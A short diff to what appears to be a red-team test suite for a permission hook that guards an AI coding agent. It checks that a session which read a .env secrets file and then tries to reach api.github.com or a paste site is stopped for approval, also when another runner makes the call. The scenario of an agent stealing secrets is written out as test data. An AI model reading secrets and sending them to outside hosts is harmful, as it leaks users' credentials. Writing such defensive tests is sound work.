@@ -73,6 +73,11 @@ describe('red team: read a secret, then send it before the analyzer scores the r
     expect(send.hookSpecificOutput?.permissionDecisionReason).toMatch(
       /this session read a secret \d+ s ago \(reads a project secrets file.*\.env\), and this call reaches api\.github\.com/,
     );
+    // Another runner naming the session is asked too, and not told what the session read.
+    const cross = await bash('claude-code', 'thief', SEND, OTHER);
+    expect(decision(cross)).toBe('ask');
+    expect(cross.hookSpecificOutput?.permissionDecisionReason).toMatch(/through another token/);
+    expect(cross.hookSpecificOutput?.permissionDecisionReason).not.toMatch(/\.env/);
     // A fetch tool is a send too.
     const fetchAnswer = await hook('claude-code', 'thief', 'WebFetch', {
       url: 'https://paste.example.net/new',
